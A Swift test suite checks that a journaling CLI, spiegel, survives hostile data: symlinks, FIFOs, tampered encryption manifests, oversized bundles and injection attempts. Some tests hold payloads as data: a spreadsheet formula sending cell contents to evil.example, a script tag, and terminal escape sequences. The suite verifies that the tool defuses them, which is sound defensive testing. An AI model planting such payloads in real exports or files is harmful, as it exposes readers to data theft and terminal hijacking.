import Foundation
import SpiegelCore
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// Each way the journal could lose answers, crash, hang or let data drive a terminal, tried through the
/// real binary: the lock, unlistable folders, special files, numbers out of range, tampered manifests,
/// symlinked folders, debris, quarantine names and rescued answers.
@Suite("Trust under hostile data")
struct TrustTests {
    static let env = ["NO_COLOR": "1"]

    /// A journal with one completed entry; returns its id.
    @discardableResult
    func journalWithOneEntry(_ sandbox: Sandbox) throws -> String {
        try completeExercise("small-gesture-plan", text: "een klein gebaar", sandbox: sandbox)
        return try #require(sandbox.files(in: sandbox.entries).first { $0.hasSuffix(".json") }).replacingOccurrences(of: ".json", with: "")
    }

    func rewriteEntry(_ sandbox: Sandbox, id: String, _ change: (inout [String: Any]) -> Void) throws {
        let path = sandbox.entries + "/" + id + ".json"
        var object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])
        change(&object)
        try JSONSerialization.data(withJSONObject: object).write(to: URL(fileURLWithPath: path))
    }

    // MARK: the lock

    @Test func aWriterWaitsForWholeJournalWorkThenGivesUpWith75AndKeepsTheAnswers() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        // Hold the lock the way `decrypt` does.
        let fd = open(sandbox.journal + "/.lock", O_RDWR | O_CREAT, 0o600)
        #expect(fd >= 0)
        defer { close(fd) }
        #expect(flock(fd, LOCK_EX) == 0)
        _ = "decrypt".withCString { write(fd, $0, 7) }
        let started = Date()
        let run = try spiegel([], input: "start small-gesture-plan\nantwoord dat blijft\n", sandbox: sandbox,
                              environment: ["SPIEGEL_LOCK_TIMEOUT": "1"])
        #expect(Date().timeIntervalSince(started) < 15, "the wait is bounded")
        #expect(run.status == 75, "\(run)")
        #expect(run.stderr.contains("waiting for another spiegel (decrypt) to finish"), "\(run.stderr)")
        let rescued = sandbox.root + "/state/spiegel/rescued"
        let kept = sandbox.files(in: rescued).compactMap { try? String(contentsOfFile: rescued + "/" + $0, encoding: .utf8) }
        #expect(kept.contains { $0.contains("antwoord dat blijft") }, "the answers are kept: \(run.stderr)")
        // Once the lock is free, writing works again.
        flock(fd, LOCK_UN)
        try completeExercise("small-gesture-plan", text: "daarna", sandbox: sandbox)
    }

    // MARK: folders and special files

    @Test func aFolderThatCannotBeListedIsAnErrorAndEncryptChangesNothing() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        let manifest = try Data(contentsOf: URL(fileURLWithPath: sandbox.journal + "/journal.json"))
        // In place of entries/: a symbolic link to a folder holding the entries (followed before).
        let elsewhere = sandbox.root + "/elsewhere"
        try FileManager.default.moveItem(atPath: sandbox.entries, toPath: elsewhere)
        try FileManager.default.createSymbolicLink(atPath: sandbox.entries, withDestinationPath: elsewhere)
        let before = sandbox.files(in: elsewhere).map { try? Data(contentsOf: URL(fileURLWithPath: elsewhere + "/" + $0)) }
        for command in [["journal"], ["stats"], ["export", "--format", "json"], ["doctor"]] {
            let run = try spiegel(command, sandbox: sandbox, environment: Self.env)
            #expect(run.status != 0 && run.stderr.contains("symbolic link"), "\(command): \(run)")
        }
        let pass = try sandbox.write("pw\n", to: "pass")
        let encrypt = try spiegel(["encrypt"], sandbox: sandbox, environment: ["SPIEGEL_PASSPHRASE_FILE": pass])
        #expect(encrypt.status != 0, "\(encrypt)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: sandbox.journal + "/journal.json")) == manifest, "the journal is not marked encrypted")
        #expect(sandbox.files(in: elsewhere).map { try? Data(contentsOf: URL(fileURLWithPath: elsewhere + "/" + $0)) } == before,
                "nothing in the linked folder was rewritten")

        // entries/ as a plain file: an error, not an empty journal.
        try FileManager.default.removeItem(atPath: sandbox.entries)
        try Data().write(to: URL(fileURLWithPath: sandbox.entries))
        let listed = try spiegel(["journal"], sandbox: sandbox, environment: Self.env)
        #expect(listed.status != 0 && listed.stderr.contains("not a directory"), "\(listed)")
    }

    @Test func fifosNeverMakeACommandHang() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        #expect(mkfifo(sandbox.entries + "/20990101-000000-ffffff.json", 0o600) == 0)
        #expect(mkfifo(sandbox.drafts + "/20990101-000000-eeeeee.json", 0o600) == 0)
        for command in [["journal"], ["stats"], ["recommend"], ["export", "--format", "md"]] {
            let run = try spiegel(command, sandbox: sandbox, environment: Self.env, timeout: 15)
            #expect(run.status == 0 && run.stderr.contains("not a regular file"), "\(command): \(run)")
        }
        let doctor = try spiegel(["doctor", "--quarantine"], sandbox: sandbox, environment: Self.env, timeout: 15)
        #expect(doctor.status == 0, "\(doctor)")
        #expect(sandbox.files(in: sandbox.journal + "/quarantine").count == 2, "both FIFOs moved aside")

        // A FIFO as the manifest, and in a folder given to review.
        let review = sandbox.root + "/bundles"
        try FileManager.default.createDirectory(atPath: review, withIntermediateDirectories: true)
        #expect(mkfifo(review + "/anna.json", 0o600) == 0)
        let coach = try spiegel(["review", review, "--run", "clients"], sandbox: sandbox, environment: Self.env, timeout: 15)
        #expect(coach.status == 65 && coach.stderr.contains("not a regular file"), "\(coach)")
        try FileManager.default.removeItem(atPath: sandbox.journal + "/journal.json")
        #expect(mkfifo(sandbox.journal + "/journal.json", 0o600) == 0)
        let listed = try spiegel(["journal"], sandbox: sandbox, environment: Self.env, timeout: 15)
        #expect(listed.status == 65 && listed.stderr.contains("journal.json"), "\(listed)")
    }

    // MARK: numbers

    @Test func numbersOutOfRangeAreDataErrorsNeverCrashes() throws {
        let sandbox = Sandbox("spiegel-trust")
        let id = try journalWithOneEntry(sandbox)
        try rewriteEntry(sandbox, id: id) { $0["confidence"] = Int64.min }
        for command in [["recommend"], ["stats"], ["journal"]] {
            let run = try spiegel(command, sandbox: sandbox, environment: Self.env)
            #expect(run.status == 0 && run.stderr.contains("confidence"), "\(command): \(run)")
        }
        let shell = try spiegel([], input: "recommend\n", sandbox: sandbox, environment: Self.env)
        #expect(shell.status == 0, "\(shell)")

        // A huge number typed as a choice: an answer that does not fit, not a trap.
        let other = Sandbox("spiegel-trust")
        for huge in ["99999999999999999999", "-9223372036854775808", "9223372036854775807"] {
            let run = try spiegel([], input: "start friendly-or-centric\n\(huge)\n", sandbox: other, environment: Self.env)
            #expect(run.status == 65 || run.status == 0, "\(huge): \(run)")
            #expect(!run.stderr.contains("Fatal error"), "\(run)")
        }
    }

    // MARK: manifests

    @Test func scryptParametersAreCappedAndDamageIsNotAWrongPassphrase() throws {
        let sandbox = Sandbox("spiegel-trust")
        let pass = try sandbox.write("correct horse\n", to: "pass")
        let env = ["SPIEGEL_PASSPHRASE_FILE": pass]
        #expect(try spiegel(["init", "--encrypt"], sandbox: sandbox, environment: env).status == 0)
        let path = sandbox.journal + "/journal.json"
        let original = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])
        func with(_ change: (inout [String: Any]) -> Void) throws {
            var manifest = original
            var settings = try #require(manifest["encryption"] as? [String: Any])
            change(&settings)
            manifest["encryption"] = settings
            try JSONSerialization.data(withJSONObject: manifest).write(to: URL(fileURLWithPath: path))
        }
        try with { $0["rounds"] = 1 << 20; $0["blockSize"] = 2; $0["parallelism"] = 16 }
        let started = Date()
        let costly = try spiegel(["journal"], sandbox: sandbox, environment: env)
        #expect(Date().timeIntervalSince(started) < 5, "refused before deriving a key")
        #expect(costly.status == 65 && costly.stderr.contains("scrypt"), "\(costly)")

        try with { $0["wrappedKey"] = "bm90IGEga2V5" }
        let damaged = try spiegel(["journal"], sandbox: sandbox, environment: env)
        #expect(damaged.status == 65 && damaged.stderr.contains("journal.json"), "\(damaged)")

        try JSONSerialization.data(withJSONObject: original).write(to: URL(fileURLWithPath: path))
        let wrong = try sandbox.write("not it\n", to: "wrong")
        let refused = try spiegel(["journal"], sandbox: sandbox, environment: ["SPIEGEL_PASSPHRASE_FILE": wrong])
        #expect(refused.status == 77 && refused.stderr.contains("wrong passphrase"), "\(refused)")
    }

    // MARK: debris, quarantine, rescued answers

    @Test func debrisOfDeadWritersIsCleanedNotReported() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        // A pid that cannot be running (above pid_max), old and new naming, and one of a live process.
        let dead = [".20990101-000000-aaaaaa.json.4194305-17.tmp", ".20990101-000000-bbbbbb.json.4194305.99.tmp"]
        let live = ".20990101-000000-cccccc.json.\(getpid())-5.tmp"
        for name in dead + [live] { try Data("{".utf8).write(to: URL(fileURLWithPath: sandbox.entries + "/" + name)) }
        let doctor = try spiegel(["doctor"], sandbox: sandbox, environment: Self.env)
        #expect(doctor.status == 0 && doctor.stdout.contains("Removed 2 temporary files"), "\(doctor)")
        #expect(!doctor.stdout.contains("problem"), "\(doctor)")
        #expect(sandbox.files(in: sandbox.entries).filter { $0.hasPrefix(".") } == [live], "only the live writer's file stays")
    }

    @Test func quarantineNeverReplacesAFileAlreadyThere() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        let bad = sandbox.entries + "/20990101-000000-dddddd.json"
        for round in 1...3 {
            try Data("broken \(round)".utf8).write(to: URL(fileURLWithPath: bad))
            let run = try spiegel(["doctor", "--quarantine"], sandbox: sandbox, environment: Self.env)
            #expect(run.status == 0, "\(run)")
        }
        let folder = sandbox.journal + "/quarantine"
        let kept = Set(sandbox.files(in: folder).compactMap { try? String(contentsOfFile: folder + "/" + $0, encoding: .utf8) })
        #expect(kept == ["broken 1", "broken 2", "broken 3"], "\(sandbox.files(in: folder))")
    }

    @Test func encryptSealsRescuedAnswersToo() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        let rescued = sandbox.root + "/state/spiegel/rescued"
        try FileManager.default.createDirectory(atPath: rescued, withIntermediateDirectories: true)
        try Data(#"{"secret":"GEHEIM-antwoord"}"#.utf8).write(to: URL(fileURLWithPath: rescued + "/20990101-000000-aaaaaa.json"))
        let pass = try sandbox.write("pw\n", to: "pass")
        let run = try spiegel(["encrypt"], sandbox: sandbox, environment: ["SPIEGEL_PASSPHRASE_FILE": pass])
        #expect(run.status == 0, "\(run)")
        let data = try Data(contentsOf: URL(fileURLWithPath: rescued + "/20990101-000000-aaaaaa.json"))
        #expect(data.starts(with: Data("SPIEGEL-SEALED-1\n".utf8)) && data.range(of: Data("GEHEIM".utf8)) == nil)
    }

    @Test func anInterruptedDecryptSaysHowToFinish() throws {
        let sandbox = Sandbox("spiegel-trust")
        let pass = try sandbox.write("pw\n", to: "pass")
        let env = ["SPIEGEL_PASSPHRASE_FILE": pass]
        #expect(try spiegel(["init", "--encrypt"], sandbox: sandbox, environment: env).status == 0)
        let block = "start small-gesture-plan\neen\nchair\ncoffee\n\nthe chair\nskip\n\noffer water\nin 3 days\n4\n"
        let three = try spiegel([], input: String(repeating: block, count: 3), sandbox: sandbox, environment: env)
        #expect(three.status == 0, "\(three)")
        // One sealed file damaged: decrypt opens what it can and stops there.
        let names = sandbox.files(in: sandbox.entries).sorted()
        try #require(names.count == 3)
        var damaged = try Data(contentsOf: URL(fileURLWithPath: sandbox.entries + "/" + names[1]))
        damaged[damaged.count - 1] ^= 0xFF
        try damaged.write(to: URL(fileURLWithPath: sandbox.entries + "/" + names[1]))
        let run = try spiegel(["decrypt"], sandbox: sandbox, environment: env)
        #expect(run.status != 0, "\(run)")
        #expect(run.stderr.contains("decrypt stopped after 1 of 3 files") && run.stderr.contains("run 'spiegel decrypt' again"), "\(run.stderr)")
        let manifest = try String(contentsOfFile: sandbox.journal + "/journal.json", encoding: .utf8)
        #expect(manifest.contains("encryption"), "the key stays until every file is open")
    }

    // MARK: terminal and history

    @Test func historyKeepsNoFreeTextWhereverGlobalOptionsStand() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        let shell = try PTYProcess(executable: try SpiegelBinary.require(), environment: sandbox.environment(Self.env))
        try shell.expectPrompt("spiegel> ")
        for line in ["--lang en moved 2099 2026-04-01 why SECRET-ONE", "journal --grep SECRET-TWO --limit 2",
                     "--lang nl done 2099 SECRET-THREE", "dnoe 2099 SECRET-FOUR"] {
            let mark = shell.mark
            try shell.type(line + "\r")
            try shell.expectPrompt("spiegel> ", after: mark)
        }
        shell.send("\u{04}")
        _ = shell.waitForExit()
        // libedit's history file writes a space as \040.
        let history = ((try? String(contentsOfFile: sandbox.historyFile, encoding: .utf8)) ?? "").replacingOccurrences(of: "\\040", with: " ")
        #expect(!history.contains("SECRET"), "free text in the history: \(history)")
        #expect(history.contains("moved 2099") && history.contains("journal --limit 2"), "the commands stay: \(history)")
    }

    @Test func dataFromFilesCannotDriveTheTerminal() throws {
        let sandbox = Sandbox("spiegel-trust")
        let id = try journalWithOneEntry(sandbox)
        try rewriteEntry(sandbox, id: id) { entry in
            var answers = entry["answers"] as? [[String: Any]] ?? []
            answers[0]["text"] = "hallo \u{1B}]0;pwned\u{07}\u{1B}[2J wereld"
            entry["answers"] = answers
        }
        let bundle = """
            {"format":"spiegel-bundle","schemaVersion":1,"kind":"feedback","exportedAt":"2026-11-30T10:00:00+00:00",
             "exporter":"coach \\u001b]0;evil\\u0007","exercises":[],"entries":[],"notes":[]}
            """
        let file = try sandbox.write(bundle, to: "feedback.json")
        let shell = try PTYProcess(executable: try SpiegelBinary.require(), environment: sandbox.environment(Self.env))
        try shell.expectPrompt("spiegel> ")
        for line in ["entry \(id)", "journal", "import \(file)", "export --format csv"] {
            let mark = shell.mark
            try shell.type(line + "\r")
            try shell.expectPrompt("spiegel> ", after: mark)
        }
        let screen = shell.text(after: 0)
        #expect(!screen.contains("\u{1B}]"), "an OSC sequence from data reached the terminal")
        #expect(!screen.contains("\u{07}"), "a BEL from data reached the terminal")
        #expect(!screen.contains("\u{1B}[2J"), "a clear-screen from data reached the terminal")
        #expect(screen.contains("^[]0;pwned"), "the data is shown, made visible")
        shell.send("\u{04}")
        _ = shell.waitForExit()
    }

    // MARK: bundles and review

    @Test func bundlesHaveFieldLimitsAndReviewSaysOneTrueThing() throws {
        let sandbox = Sandbox("spiegel-trust")
        try journalWithOneEntry(sandbox)
        let export = try spiegel(["export", "--format", "json", "--as", "Anna", "--output", "anna.json"], sandbox: sandbox)
        #expect(export.status == 0)
        let path = sandbox.root + "/anna.json"
        var object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])

        // The same journal exported twice is one client, the newer export.
        var newer = object
        newer["exportedAt"] = "2030-01-01T00:00:00+00:00"
        try JSONSerialization.data(withJSONObject: newer).write(to: URL(fileURLWithPath: sandbox.root + "/anna-new.json"))
        let twice = try spiegel(["review", path, sandbox.root + "/anna-new.json", "--run", "clients"], sandbox: sandbox, environment: Self.env)
        #expect(twice.status == 0, "\(twice)")
        #expect(!twice.stdout.contains("Anna (2)") && twice.stderr.contains("older export"), "\(twice)")

        // A 100 KB answer is refused, naming the entry.
        var entries = try #require(object["entries"] as? [[String: Any]])
        var answers = try #require(entries[0]["answers"] as? [[String: Any]])
        answers[0]["text"] = String(repeating: "x", count: 100_000)
        entries[0]["answers"] = answers
        object["entries"] = entries
        try JSONSerialization.data(withJSONObject: object).write(to: URL(fileURLWithPath: path))
        let big = try spiegel(["review", path, "--run", "clients"], sandbox: sandbox, environment: Self.env)
        #expect(big.status == 65 && big.stderr.contains("longer than 64 KB"), "\(big)")
        #expect(big.stderr.split(separator: "\n").count == 1, "one line: \(big.stderr)")
        let imported = try spiegel(["import", path], sandbox: sandbox, environment: Self.env)
        #expect(imported.status == 65 && imported.stderr.contains("entry"), "\(imported)")

        // JSON that is not a bundle says so.
        let array = try sandbox.write("[1,2,3]", to: "array.json")
        let notBundle = try spiegel(["review", array, "--run", "clients"], sandbox: sandbox, environment: Self.env)
        #expect(notBundle.status == 65 && notBundle.stderr.contains("not a Spiegel bundle"), "\(notBundle)")
        #expect(notBundle.stderr.split(separator: "\n").count == 1, "one line: \(notBundle.stderr)")
    }

    // MARK: exports

    @Test func exportsCannotAttackTheirReader() throws {
        guard Python.available else { try Test.cancel("python3 is not available") }
        let sandbox = Sandbox("spiegel-trust")
        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#
        // One entry with a formula, a number with a leading zero, and Markdown that would restructure a page.
        let script = "start small-gesture-plan\n\(formula)\n0612345678\n@SUM(A1)\n\n# x\n---\n\n<script>alert(1)</script>\nin 3 days\n4\n"
        let run = try spiegel([], input: script, sandbox: sandbox, environment: Self.env)
        #expect(run.status == 0, "\(run)")
        #expect(try spiegel(["export", "--format", "csv", "--output", "x.csv"], sandbox: sandbox).status == 0)
        let parse = """
            import csv, json, sys
            with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
                print(json.dumps(list(csv.reader(f, strict=True))))
            """
        let parsed = try runTool(["python3", "-c", parse, sandbox.root + "/x.csv"])
        let rows = try #require(try json(parsed.stdout) as? [[String]], "\(parsed)")
        let cells = Set(rows.flatMap { $0 })
        #expect(cells.contains("'" + formula) && !cells.contains(formula), "a formula stays text: \(cells.filter { $0.contains("HYPER") })")
        #expect(cells.contains { $0.contains("'0612345678") }, "a leading zero stays")
        #expect(!cells.contains { $0.first.map { "=+-@".contains($0) } ?? false }, "no cell starts a formula")

        if Python.hasMarkdownIt {
            #expect(try spiegel(["export", "--format", "md", "--output", "x.md"], sandbox: sandbox).status == 0)
            let structure = try Python.markdownStructure(sandbox.root + "/x.md")
            let headings = structure["headings"] as? Int ?? -1
            let markdown = try String(contentsOfFile: sandbox.root + "/x.md", encoding: .utf8)
            let ownHeadings = markdown.split(separator: "\n").filter { $0.hasPrefix("#") }.count
            #expect(headings == ownHeadings, "typed '# x' is no heading: \(headings) rendered, \(ownHeadings) written by the export")
            #expect(structure["rules"] as? Int == 0, "typed '---' is no rule")
            #expect(structure["html"] as? Int == 0, "typed HTML stays text")
            let quotes = structure["quotes"] as? [String] ?? []
            #expect(quotes.contains("# x") && quotes.contains("---") && quotes.contains { $0.hasPrefix("<script>alert(1)</script>") }, "the text reads as typed: \(quotes)")
        }
    }
}
